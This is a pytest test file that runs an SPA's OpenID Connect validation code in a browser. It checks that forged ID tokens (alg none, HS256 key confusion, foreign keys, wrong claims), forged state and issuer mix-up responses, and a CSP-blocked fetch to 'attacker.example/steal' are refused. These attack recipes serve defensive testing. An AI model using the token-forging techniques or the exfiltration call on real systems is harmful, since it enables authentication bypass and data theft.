"""Each check the SPA's JavaScript makes, run in Chromium on the SPA's own origin.

The flows in test_spa_flows.py only meet a well-behaved issuer. Here the page's modules are
imported as they are served and given what a broken or hostile issuer could send: ID tokens
signed with the wrong key or algorithm or carrying the wrong claims (real RSA signatures),
authorization responses with the wrong `state` or `iss`, unusable token responses. Each row
fails if its check is removed from the page.
"""

import hashlib
import time
import uuid

import pytest

from shared.token_validation import TokenValidationError, TokenValidator
from tests.support.keys import b64url, compact

ISSUER = "https://tenant.example/"
CLIENT_ID = "spa-demo"
NONCE = "n-0S6_WzA2Mj"
ACCESS_TOKEN = "eyJhbGciOiJSUzI1NiJ9.an-access-token.signature"

VALIDATE_ID_TOKEN = f"""async ({{ token, jwks, jwksUri, accessToken }}) => {{
  const {{ validateIdToken }} = await import("/static/id_token.js");
  const {{ KeySet }} = await import("/static/jwt.js");
  const keySet = new KeySet(jwksUri);
  keySet.keys = jwks;
  const options = {{ issuer: "{ISSUER}", clientId: "{CLIENT_ID}", nonce: "{NONCE}", keySet, accessToken: accessToken ?? undefined }};
  try {{
    return {{ claims: await validateIdToken(token, options) }};
  }} catch (error) {{
    return {{ code: error.code, description: error.description }};
  }}
}}"""

COMPLETE_IMPLICIT_GRANT = f"""async ({{ fields, jwks, jwksUri }}) => {{
  const {{ KeySet }} = await import("/static/jwt.js");
  const {{ implicitGrant }} = await import("/static/implicit_grant.js");
  const keySet = new KeySet(jwksUri);
  keySet.keys = jwks;
  const settings = {{ issuer: "{ISSUER}", clientId: "{CLIENT_ID}", keySet }};
  const log = {{ add() {{}} }};
  try {{
    const tokens = await implicitGrant.complete(new URLSearchParams(fields), {{ nonce: "{NONCE}" }}, settings, log);
    return {{ accepted: tokens.idClaims.email }};
  }} catch (error) {{
    return {{ code: error.code, description: error.description }};
  }}
}}"""

CHECK_AUTHORIZATION_RESPONSE = f"""async ({{ response, pending, issSupported }}) => {{
  const {{ checkAuthorizationResponse }} = await import("/static/authorization.js");
  const settings = {{ issuer: "{ISSUER}", metadata: {{ authorization_response_iss_parameter_supported: issSupported }} }};
  try {{
    checkAuthorizationResponse(new URLSearchParams(response), pending, settings);
    return {{ accepted: true }};
  }} catch (error) {{
    return {{ code: error.code }};
  }}
}}"""

CHECK_TOKEN_RESPONSE = """async (body) => {
  const { checkTokenResponse } = await import("/static/tokens.js");
  try {
    return { tokens: checkTokenResponse(body) };
  } catch (error) {
    return { code: error.code };
  }
}"""


def s256(verifier):
    return b64url(hashlib.sha256(verifier.encode("ascii")).digest())


def at_hash(access_token):
    return b64url(hashlib.sha256(access_token.encode("ascii")).digest()[:16])


@pytest.fixture(scope="module")
def spa_page(browser, stack):
    """A page on the SPA's origin, so its CSP applies and its modules import as served.

    The checks are functions without state, so one page serves the whole module."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{stack.spa_url}/")
    page.wait_for_selector("body[data-ready=true]")
    yield page
    context.close()


def id_token_claims(**changes):
    now = int(time.time())
    claims = {
        "iss": ISSUER,
        "sub": "auth0|985069d6114091e736f16d6d",
        "aud": CLIENT_ID,
        "iat": now,
        "exp": now + 36000,
        "nonce": NONCE,
        "at_hash": at_hash(ACCESS_TOKEN),
        "email": "alice@flowlab.test",
    }
    claims.update(changes)
    return {name: value for name, value in claims.items() if value is not None}


ID_TOKEN_ATTACKS = {
    # name: (how the token is made: header changes, claim changes, signing key name, alg), refusal
    "signed by another key under our kid": (
        {},
        {},
        "attacker_same_kid",
        "RS256",
        "signature does not verify",
    ),
    "HS256 with the public key as the secret": (
        {"alg": "HS256"},
        {},
        "public_pem",
        "HS256",
        "only RS256",
    ),
    "alg none": ({"alg": "none"}, {}, None, "none", "only RS256"),
    "a kid the issuer never published": (
        {"kid": "unknown-kid"},
        {},
        "issuer",
        "RS256",
        "No signing key",
    ),
    "another issuer": ({}, {"iss": "https://attacker.example/"}, "issuer", "RS256", "iss is"),
    "another audience": (
        {},
        {"aud": "another-app"},
        "issuer",
        "RS256",
        "does not contain our client id",
    ),
    "authorized party is another client": (
        {},
        {"aud": [CLIENT_ID, "another-app"], "azp": "another-app"},
        "issuer",
        "RS256",
        "azp",
    ),
    "expired": ({}, {"exp": int(time.time()) - 120}, "issuer", "RS256", "expired"),
    "exp as a string": ({}, {"exp": str(int(time.time()) + 3600)}, "issuer", "RS256", "expired"),
    "no exp": ({}, {"exp": None}, "issuer", "RS256", "expired"),
    "issued in the future": ({}, {"iat": int(time.time()) + 600}, "issuer", "RS256", "future"),
    "another nonce (replay)": (
        {},
        {"nonce": "a-nonce-from-another-login"},
        "issuer",
        "RS256",
        "nonce",
    ),
    "no nonce": ({}, {"nonce": None}, "issuer", "RS256", "nonce"),
    "at_hash of another access token": (
        {},
        {"at_hash": at_hash("another-access-token")},
        "issuer",
        "RS256",
        "at_hash",
    ),
    "no at_hash beside an access token": ({}, {"at_hash": None}, "issuer", "RS256", "at_hash"),
}


@pytest.fixture
def sign_id_token(rsa_key, second_rsa_key):
    keys = {
        "issuer": rsa_key,
        "attacker_same_kid": second_rsa_key.with_kid(rsa_key.kid),
        "public_pem": rsa_key.public_pem,
        None: None,
    }

    def sign(header_changes, claim_changes, key_name, alg):
        header = {"typ": "JWT", "alg": "RS256", "kid": rsa_key.kid} | header_changes
        return compact(header, id_token_claims(**claim_changes), keys[key_name], alg)

    return sign


def validate(page, stack, rsa_key, token, access_token):
    return page.evaluate(
        VALIDATE_ID_TOKEN,
        {
            "token": token,
            "jwks": [rsa_key.jwk],
            "jwksUri": f"{stack.issuer}.well-known/jwks.json",
            "accessToken": access_token,
        },
    )


@pytest.mark.parametrize("access_token", [ACCESS_TOKEN, None], ids=["implicit", "code"])
def test_a_valid_id_token_is_accepted(spa_page, stack, rsa_key, sign_id_token, access_token):
    result = validate(
        spa_page, stack, rsa_key, sign_id_token({}, {}, "issuer", "RS256"), access_token
    )
    assert result.get("claims", {}).get("email") == "alice@flowlab.test", result


@pytest.mark.parametrize("attack", ID_TOKEN_ATTACKS.values(), ids=ID_TOKEN_ATTACKS.keys())
def test_a_bad_id_token_is_refused(spa_page, stack, rsa_key, sign_id_token, attack):
    *how, refusal = attack
    result = validate(spa_page, stack, rsa_key, sign_id_token(*how), ACCESS_TOKEN)
    assert "claims" not in result
    assert result["code"] in ("invalid_id_token", "invalid_token")
    assert refusal in result["description"]


NOW = int(time.time())
# The rules the page shares with the API's validator (shared/token_validation.py): NumericDates
# as int or float from 0 to 2**53 - 1, azp with several audiences, no access token as an ID
# token, and the claim and header types it checks.
ID_TOKENS_BY_THE_VALIDATORS_RULES = {
    # name: (header changes, claim changes), refusal or None when accepted
    "exp and iat as fractions": (({}, {"exp": NOW + 3600.5, "iat": NOW - 0.25}), None),
    "exp at 2**53 - 1": (({}, {"exp": 2**53 - 1}), None),
    "exp a fraction in the past": (({}, {"exp": NOW - 120.5}), "expired"),
    "exp true": (({}, {"exp": True}), "NumericDate"),
    "exp negative": (({}, {"exp": -1}), "NumericDate"),
    "exp past 2**53 - 1": (({}, {"exp": 2**53}), "NumericDate"),
    "exp 10**400 (Infinity in JavaScript)": (({}, {"exp": 10**400}), "NumericDate"),
    "iat as a string": (({}, {"iat": str(NOW)}), "NumericDate"),
    "iat negative": (({}, {"iat": -1}), "NumericDate"),
    "no iat": (({}, {"iat": None}), "NumericDate"),
    "nbf in the past": (({}, {"nbf": NOW - 60}), None),
    "nbf in the future": (({}, {"nbf": NOW + 600}), "nbf"),
    "nbf as a string": (({}, {"nbf": str(NOW)}), "NumericDate"),
    "auth_time as a string": (({}, {"auth_time": str(NOW)}), "NumericDate"),
    "several audiences, azp ours": (
        ({}, {"aud": [CLIENT_ID, "https://api.flowlab.local"], "azp": CLIENT_ID}),
        None,
    ),
    "several audiences, no azp": (({}, {"aud": [CLIENT_ID, "https://api.flowlab.local"]}), "azp"),
    "one audience, azp ours": (({}, {"azp": CLIENT_ID}), None),
    "azp not a string": (({}, {"azp": 1}), "azp"),
    "aud neither a string nor an array": (({}, {"aud": 7}), "aud"),
    "aud an array with a number": (({}, {"aud": [CLIENT_ID, 7]}), "aud"),
    "no sub": (({}, {"sub": None}), "sub"),
    "an empty sub": (({}, {"sub": ""}), "sub"),
    "no typ": (({"typ": None}, {}), None),
    "an access token (typ at+jwt)": (({"typ": "at+jwt"}, {}), "at+jwt"),
    "an access token (typ application/at+jwt)": (({"typ": "application/at+jwt"}, {}), "at+jwt"),
    "an access token (typ AT+JWT)": (({"typ": "AT+JWT"}, {}), "at+jwt"),
    "typ not a string": (({"typ": 1}, {}), "typ"),
    "kid not a string": (({"kid": 1}, {}), "kid"),
    "crit names an extension": (({"crit": ["b64"], "b64": False}, {}), "crit"),
}


@pytest.fixture
def sign_by_the_rules(rsa_key):
    def sign(header_changes, claim_changes):
        header = {"typ": "JWT", "alg": "RS256", "kid": rsa_key.kid} | header_changes
        header = {name: value for name, value in header.items() if value is not None}
        return compact(header, id_token_claims(**claim_changes), rsa_key, "RS256")

    return sign


@pytest.mark.parametrize(
    "case", ID_TOKENS_BY_THE_VALIDATORS_RULES.values(), ids=ID_TOKENS_BY_THE_VALIDATORS_RULES.keys()
)
def test_the_page_checks_id_tokens_by_the_rules_of_the_apis_validator(
    spa_page, stack, rsa_key, sign_by_the_rules, case
):
    changes, refusal = case
    result = validate(spa_page, stack, rsa_key, sign_by_the_rules(*changes), None)
    if refusal is None:
        assert result.get("claims", {}).get("email") == "alice@flowlab.test", result
    else:
        assert "claims" not in result
        assert result["code"] in ("invalid_id_token", "invalid_token")
        assert refusal in result["description"]


def python_verdict(validator, token):
    try:
        validator.validate_id_token(token, nonce=NONCE)
    except TokenValidationError:
        return "refused"
    return "accepted"


def test_the_page_and_the_apis_validator_agree_on_every_id_token(
    spa_page, stack, rsa_key, sign_id_token, sign_by_the_rules, make_jwks_server
):
    """Every token above (the at_hash ones aside: the Python validator serves the code flow,
    which has no at_hash to check) gets one verdict from both validators."""
    jwks = make_jwks_server(rsa_key)
    validator = TokenValidator(ISSUER, CLIENT_ID, jwks_url=jwks.jwks_url)
    tokens = {
        name: sign_by_the_rules(*changes)
        for name, (changes, _) in ID_TOKENS_BY_THE_VALIDATORS_RULES.items()
    }
    tokens |= {
        name: sign_id_token(*how)
        for name, (*how, _) in ID_TOKEN_ATTACKS.items()
        if "at_hash" not in name
    }
    tokens["a valid ID token"] = sign_id_token({}, {}, "issuer", "RS256")
    verdicts = {
        name: (
            "accepted"
            if "claims" in validate(spa_page, stack, rsa_key, token, None)
            else "refused",
            python_verdict(validator, token),
        )
        for name, token in tokens.items()
    }
    assert {name: page for name, (page, python) in verdicts.items() if page != python} == {}
    assert verdicts["a valid ID token"] == ("accepted", "accepted")


KEY_SET_UNDER_TEST = """async ({ jwksUri, options }) => {
  const { KeySet } = await import("/static/jwt.js");
  const clock = { now: 0 };
  globalThis.keySetUnderTest = { keySet: new KeySet(jwksUri, { ...options, now: () => clock.now }), clock };
}"""

VALIDATE_WITH_THE_KEY_SET_UNDER_TEST = f"""async ({{ tokens, advanceMs }}) => {{
  const {{ validateIdToken }} = await import("/static/id_token.js");
  const {{ keySet, clock }} = globalThis.keySetUnderTest;
  clock.now += advanceMs;
  const options = {{ issuer: "{ISSUER}", clientId: "{CLIENT_ID}", nonce: "{NONCE}", keySet }};
  // All at once, as concurrent logins would; then any background refresh is let finish.
  const results = await Promise.all(tokens.map(async (token) => {{
    try {{
      return (await validateIdToken(token, options)).email;
    }} catch (error) {{
      return `${{error.code}}: ${{error.description}}`;
    }}
  }}));
  const refreshing = keySet.inFlight !== null;
  await keySet.inFlight;
  return {{ results, refreshing }};
}}"""


class PublishedJwks:
    """A JWKS the test serves at a fresh URL of the SPA's origin (so the CSP allows it and no
    CORS applies), counting the page's downloads of it."""

    def __init__(self, page, spa_url):
        self.page = page
        self.url = f"{spa_url}/test-jwks/{uuid.uuid4().hex}.json"
        self.keys = []
        self.status = 200
        self.cache_control = None
        self.downloads = 0
        page.route(self.url, self._answer)

    def _answer(self, route):
        self.downloads += 1
        headers = {} if self.cache_control is None else {"Cache-Control": self.cache_control}
        route.fulfill(
            status=self.status, json={"keys": [key.jwk for key in self.keys]}, headers=headers
        )

    def key_set(self, **options):
        self.page.evaluate(KEY_SET_UNDER_TEST, {"jwksUri": self.url, "options": options})

    def validate(self, *tokens, advance_ms=0):
        return self.page.evaluate(
            VALIDATE_WITH_THE_KEY_SET_UNDER_TEST, {"tokens": list(tokens), "advanceMs": advance_ms}
        )

    def close(self):
        self.page.unroute(self.url, self._answer)


@pytest.fixture
def published_jwks(spa_page, stack, rsa_key):
    jwks = PublishedJwks(spa_page, stack.spa_url)
    jwks.keys = [rsa_key]
    yield jwks
    jwks.close()


@pytest.fixture
def cache_rules(spa_page):
    return spa_page.evaluate(
        """async () => {
          const { JWKS_COOLDOWN_MS, JWKS_MAX_AGE_MS, JWKS_STALE_IF_ERROR_MS } = await import("/static/jwt.js");
          return { cooldown: JWKS_COOLDOWN_MS, maxAge: JWKS_MAX_AGE_MS, staleIfError: JWKS_STALE_IF_ERROR_MS };
        }"""
    )


def test_the_jwks_cache_rules_are_the_apis_validators(cache_rules):
    # shared/token_validation.py: jwks_cooldown=30.0, jwks_max_age=600.0, jwks_stale_if_error=3600.0
    assert cache_rules == {"cooldown": 30_000, "maxAge": 600_000, "staleIfError": 3_600_000}


def test_an_unknown_kid_refetches_the_jwks_at_most_once_per_cooldown(
    published_jwks, sign_id_token, cache_rules
):
    valid = sign_id_token({}, {}, "issuer", "RS256")
    unknown = sign_id_token({"kid": "unknown-kid"}, {}, "issuer", "RS256")
    published_jwks.key_set()

    assert published_jwks.validate(valid)["results"] == ["alice@flowlab.test"]
    assert published_jwks.downloads == 1
    # Within the cooldown of that download, an unknown kid is refused without asking again.
    early = published_jwks.validate(unknown, advance_ms=cache_rules["cooldown"] - 1)["results"]
    assert published_jwks.downloads == 1
    # The cooldown has passed: one refetch, and none for the same kid again.
    first = published_jwks.validate(unknown, advance_ms=1)["results"]
    assert published_jwks.downloads == 2
    second = published_jwks.validate(unknown, advance_ms=cache_rules["cooldown"] - 1)["results"]
    assert published_jwks.downloads == 2
    assert all("No signing key" in result for result in early + first + second), (
        early + first + second
    )
    # The known key never waits for a download.
    assert published_jwks.validate(valid)["results"] == ["alice@flowlab.test"]
    assert published_jwks.downloads == 2
    published_jwks.validate(unknown, advance_ms=1)
    assert published_jwks.downloads == 3


def test_a_rotated_in_key_is_found_by_one_refetch(
    published_jwks, rsa_key, second_rsa_key, sign_id_token, cache_rules
):
    rotated = compact(
        {"typ": "JWT", "alg": "RS256", "kid": second_rsa_key.kid},
        id_token_claims(),
        second_rsa_key,
        "RS256",
    )
    published_jwks.key_set()
    published_jwks.validate(sign_id_token({}, {}, "issuer", "RS256"))
    published_jwks.keys = [rsa_key, second_rsa_key]

    assert published_jwks.validate(rotated, advance_ms=cache_rules["cooldown"])["results"] == [
        "alice@flowlab.test"
    ]
    assert published_jwks.downloads == 2


def test_concurrent_validations_share_one_download(published_jwks, sign_id_token, cache_rules):
    valid = sign_id_token({}, {}, "issuer", "RS256")
    unknown = sign_id_token({"kid": "unknown-kid"}, {}, "issuer", "RS256")
    published_jwks.key_set()

    assert published_jwks.validate(*[valid] * 5)["results"] == ["alice@flowlab.test"] * 5
    assert published_jwks.downloads == 1
    results = published_jwks.validate(*[unknown] * 5, advance_ms=cache_rules["cooldown"])["results"]
    assert published_jwks.downloads == 2
    assert all("No signing key" in result for result in results), results


def test_keys_are_kept_for_the_servers_max_age_then_refreshed_in_the_background(
    published_jwks, sign_id_token
):
    valid = sign_id_token({}, {}, "issuer", "RS256")
    published_jwks.cache_control = "public, max-age=60"
    published_jwks.key_set()

    assert published_jwks.validate(valid) == {
        "results": ["alice@flowlab.test"],
        "refreshing": False,
    }
    assert published_jwks.validate(valid, advance_ms=59_999) == {
        "results": ["alice@flowlab.test"],
        "refreshing": False,
    }
    assert published_jwks.downloads == 1
    # Stale: the cached key still serves, and a download starts without the token waiting for it.
    assert published_jwks.validate(valid, advance_ms=1) == {
        "results": ["alice@flowlab.test"],
        "refreshing": True,
    }
    assert published_jwks.downloads == 2


def test_a_failing_jwks_leaves_the_known_keys_working_for_stale_if_error_only(
    published_jwks, sign_id_token, cache_rules
):
    valid = sign_id_token({}, {}, "issuer", "RS256")
    published_jwks.key_set()
    published_jwks.validate(valid)
    published_jwks.status = 503

    assert published_jwks.validate(valid, advance_ms=cache_rules["maxAge"]) == {
        "results": ["alice@flowlab.test"],
        "refreshing": True,
    }
    assert published_jwks.downloads == 2
    [result] = published_jwks.validate(valid, advance_ms=cache_rules["staleIfError"])["results"]
    assert published_jwks.downloads == 3
    assert result.startswith("http_error: ") and "JWKS" in result and "503" in result


REQUEST = """async ({ url, timeoutMs }) => {
  const { request } = await import("/static/http.js");
  try {
    const answer = await request(url, { what: "the test's server", timeoutMs });
    return { status: answer.status, body: answer.body };
  } catch (error) {
    return { name: error.name, code: error.code, description: error.description };
  }
}"""

REQUEST_FAILURES = {
    # name: (how the route answers, the FlowError's code, words of its description); each
    # description names the request, except an OAuth error's: the server's error_description.
    "no answer in time": (None, "timeout", "did not answer within 0.5 s"),
    "no connection": (
        lambda route: route.abort("connectionrefused"),
        "unreachable",
        "Could not reach",
    ),
    "a body that is not JSON": (
        lambda route: route.fulfill(status=200, body="<html>hi</html>", content_type="text/html"),
        "invalid_response",
        "not JSON",
    ),
    "JSON that is not an object": (
        lambda route: route.fulfill(status=200, json=["keys"]),
        "invalid_response",
        "not an object",
    ),
    "an OAuth error": (
        lambda route: route.fulfill(
            status=400, json={"error": "invalid_grant", "error_description": "The code was used."}
        ),
        "invalid_grant",
        "The code was used.",
    ),
    "an HTTP error": (
        lambda route: route.fulfill(
            status=502, body="<html>Bad gateway</html>", content_type="text/html"
        ),
        "http_error",
        "answered HTTP 502",
    ),
}


@pytest.mark.parametrize("case", REQUEST_FAILURES.values(), ids=REQUEST_FAILURES.keys())
def test_every_request_failure_is_a_flow_error(spa_page, stack, case):
    answer, code, words = case
    url = f"{stack.spa_url}/test-request/{uuid.uuid4().hex}"
    handler = answer or (lambda route: None)  # None: the route is never answered
    spa_page.route(url, handler)
    try:
        result = spa_page.evaluate(REQUEST, {"url": url, "timeoutMs": 500})
    finally:
        spa_page.unroute(url, handler)
    assert result["name"] == "FlowError", result
    assert result["code"] == code
    assert words in result["description"]
    if code == "invalid_grant":
        assert result["description"] == "The code was used."
    else:
        assert url in result["description"]


def test_a_json_object_answer_is_returned(spa_page, stack):
    url = f"{stack.spa_url}/config.json"
    result = spa_page.evaluate(REQUEST, {"url": url, "timeoutMs": None})
    assert result["status"] == 200 and result["body"]["clientId"] == "spa-demo"


@pytest.mark.parametrize(
    ("access_token", "accepted"), [(ACCESS_TOKEN, True), ("another-access-token", False)]
)
def test_the_implicit_flow_binds_the_access_token_to_the_id_token(
    spa_page, stack, rsa_key, sign_id_token, access_token, accepted
):
    """OpenID Connect Core 3.2.2.9: the access token of an implicit response must match the ID
    token's at_hash; the implicit flow itself must ask for that check."""
    fields = {
        "access_token": access_token,
        "id_token": sign_id_token({}, {}, "issuer", "RS256"),
        "token_type": "Bearer",
        "expires_in": "7200",
    }
    result = spa_page.evaluate(
        COMPLETE_IMPLICIT_GRANT,
        {
            "fields": fields,
            "jwks": [rsa_key.jwk],
            "jwksUri": f"{stack.issuer}.well-known/jwks.json",
        },
    )
    if accepted:
        assert result == {"accepted": "alice@flowlab.test"}
    else:
        assert result["code"] in ("invalid_id_token", "invalid_token")
        assert "at_hash" in result["description"]


PENDING = {"flow": "code", "state": "the-state-we-sent", "nonce": NONCE}
AUTHORIZATION_RESPONSES = {
    # name: (response parameters, pending request, issuer announces RFC 9207), outcome
    "the expected response": (
        {"code": "c", "state": "the-state-we-sent", "iss": ISSUER},
        PENDING,
        True,
        None,
    ),
    "another state": (
        {"code": "c", "state": "forged", "iss": ISSUER},
        PENDING,
        True,
        "state_mismatch",
    ),
    "no state": ({"code": "c", "iss": ISSUER}, PENDING, True, "state_mismatch"),
    "nothing was asked for": (
        {"code": "c", "state": "the-state-we-sent", "iss": ISSUER},
        None,
        True,
        "no_pending_request",
    ),
    "another issuer (mix-up)": (
        {"code": "c", "state": "the-state-we-sent", "iss": "https://attacker.example/"},
        PENDING,
        True,
        "issuer_mismatch",
    ),
    "no iss from an issuer announcing it": (
        {"code": "c", "state": "the-state-we-sent"},
        PENDING,
        True,
        "issuer_mismatch",
    ),
    "no iss from an issuer without RFC 9207": (
        {"code": "c", "state": "the-state-we-sent"},
        PENDING,
        False,
        None,
    ),
    "an error response": (
        {"error": "access_denied", "state": "the-state-we-sent", "iss": ISSUER},
        PENDING,
        True,
        "access_denied",
    ),
    "an error response with a forged state": (
        {"error": "login_required", "state": "forged", "iss": ISSUER},
        PENDING,
        True,
        "state_mismatch",
    ),
}


@pytest.mark.parametrize(
    "case", AUTHORIZATION_RESPONSES.values(), ids=AUTHORIZATION_RESPONSES.keys()
)
def test_authorization_response_checks(spa_page, case):
    response, pending, iss_supported, refusal = case
    result = spa_page.evaluate(
        CHECK_AUTHORIZATION_RESPONSE,
        {"response": response, "pending": pending, "issSupported": iss_supported},
    )
    assert result == ({"accepted": True} if refusal is None else {"code": refusal})


GOOD_TOKEN_RESPONSE = {
    "access_token": ACCESS_TOKEN,
    "id_token": "id.token.value",
    "token_type": "Bearer",
    "expires_in": 7200,
}
TOKEN_RESPONSES = {
    "another token type": {"token_type": "DPoP"},
    "no token type": {"token_type": None},
    "no expiry": {"expires_in": None},
    "a zero expiry": {"expires_in": 0},
    "an expiry that is not a number": {"expires_in": "soon"},
    "no ID token": {"id_token": None},
    "no access token": {"access_token": None},
}


def test_a_usable_token_response_is_accepted(spa_page):
    result = spa_page.evaluate(CHECK_TOKEN_RESPONSE, GOOD_TOKEN_RESPONSE | {"expires_in": "7200"})
    assert result == {
        "tokens": {"accessToken": ACCESS_TOKEN, "idToken": "id.token.value", "expiresIn": 7200}
    }


@pytest.mark.parametrize("changes", TOKEN_RESPONSES.values(), ids=TOKEN_RESPONSES.keys())
def test_an_unusable_token_response_is_refused(spa_page, changes):
    body = {
        name: value for name, value in (GOOD_TOKEN_RESPONSE | changes).items() if value is not None
    }
    assert spa_page.evaluate(CHECK_TOKEN_RESPONSE, body) == {"code": "invalid_response"}


def test_pkce_challenge_is_the_s256_of_a_fresh_43_character_verifier(spa_page):
    requests = spa_page.evaluate(
        """async () => {
          const { codePkce } = await import("/static/code_pkce.js");
          return [await codePkce.prepare(), await codePkce.prepare()];
        }"""
    )
    for request in requests:
        verifier = request["pending"]["codeVerifier"]
        assert len(verifier) == 43 and set(verifier) <= set(
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        )
        assert request["params"]["code_challenge_method"] == "S256"
        assert request["params"]["code_challenge"] == s256(verifier)
        assert verifier not in str(request["params"])
    first, second = (request["pending"] for request in requests)
    assert (
        first["codeVerifier"] != second["codeVerifier"]
        and first["state"] != second["state"]
        and first["nonce"] != second["nonce"]
    )


def test_pkce_matches_the_rfc_7636_example(spa_page):
    # RFC 7636 Appendix B.
    verifier = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
    challenge = spa_page.evaluate(
        """async (verifier) => (await import("/static/code_pkce.js")).codeChallenge(verifier)""",
        verifier,
    )
    assert challenge == "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"


LOGOUT_URL = f"""async (metadata) => {{
  const {{ logoutUrl }} = await import("/static/logout.js");
  const settings = {{ issuer: "{ISSUER}", clientId: "{CLIENT_ID}", returnTo: "http://localhost:3000/", metadata }};
  return logoutUrl(settings, "the.id.token", "the-state");
}}"""


@pytest.mark.parametrize(
    ("metadata", "expected"),
    [
        ({}, f"{ISSUER}v2/logout?client_id={CLIENT_ID}&returnTo=http%3A%2F%2Flocalhost%3A3000%2F"),
        (
            {"end_session_endpoint": f"{ISSUER}oidc/logout"},
            f"{ISSUER}oidc/logout?client_id={CLIENT_ID}&post_logout_redirect_uri=http%3A%2F%2Flocalhost%3A3000%2F"
            "&id_token_hint=the.id.token&state=the-state",
        ),
    ],
    ids=["auth0 v2 logout", "rp-initiated logout from discovery"],
)
def test_logout_goes_to_the_issuers_logout_endpoint(spa_page, metadata, expected):
    assert spa_page.evaluate(LOGOUT_URL, metadata) == expected


CHECK_LOGOUT_RESPONSE = """async ({ query, expected }) => {
  const { checkLogoutResponse } = await import("/static/logout.js");
  try {
    checkLogoutResponse(new URLSearchParams(query), expected);
    return { accepted: true };
  } catch (error) {
    return { code: error.code };
  }
}"""


@pytest.mark.parametrize(
    ("query", "expected", "outcome"),
    [
        ("state=the-state", "the-state", {"accepted": True}),
        ("state=forged", "the-state", {"code": "state_mismatch"}),
        ("state=the-state", None, {"code": "state_mismatch"}),
    ],
    ids=["its own logout", "another state", "no logout started"],
)
def test_a_logout_response_must_carry_the_state_of_the_logout(spa_page, query, expected, outcome):
    assert (
        spa_page.evaluate(CHECK_LOGOUT_RESPONSE, {"query": query, "expected": expected}) == outcome
    )


def test_the_browser_blocks_html_injection_and_requests_to_other_origins(spa_page):
    outcome = spa_page.evaluate(
        """async () => {
          const violations = [];
          const expected = ["require-trusted-types-for", "connect-src"];
          // The reports are events queued after each refusal: wait for both (with a deadline, so
          // a missing one fails the assertion below instead of hanging), not for a fixed time.
          const reported = new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation", (event) => {
              violations.push(event.effectiveDirective);
              if (expected.every((directive) => violations.includes(directive))) resolve();
            });
            setTimeout(resolve, 10_000);
          });
          const attempt = async (action) => {
            try { await action(); return "done"; } catch (error) { return error.name; }
          };
          const outcome = {
            handler: await attempt(() => document.body.setAttribute("onclick", "window.injected = true")),
            html: await attempt(() => document.body.insertAdjacentHTML("beforeend", "<img src=x>")),
            fetched: await attempt(() => fetch("https://attacker.example/steal")),
          };
          await reported;
          document.body.click();
          return { ...outcome, injected: window.injected === true, violations };
        }"""
    )
    assert outcome["injected"] is False
    assert {key: outcome[key] for key in ("handler", "html", "fetched")} == {
        "handler": "TypeError",
        "html": "TypeError",
        "fetched": "TypeError",
    }
    assert {"require-trusted-types-for", "connect-src"} <= set(outcome["violations"])


@pytest.mark.parametrize("name", ["constructor", "__proto__", "toString", "hasOwnProperty"])
def test_a_claim_named_like_an_objects_property_has_no_explanation(spa_page, name):
    explanation = spa_page.evaluate(
        """async (name) => {
          const { explainClaim } = await import("/static/claims.js");
          return explainClaim(name, 1, "access");
        }""",
        name,
    )
    assert explanation == ""
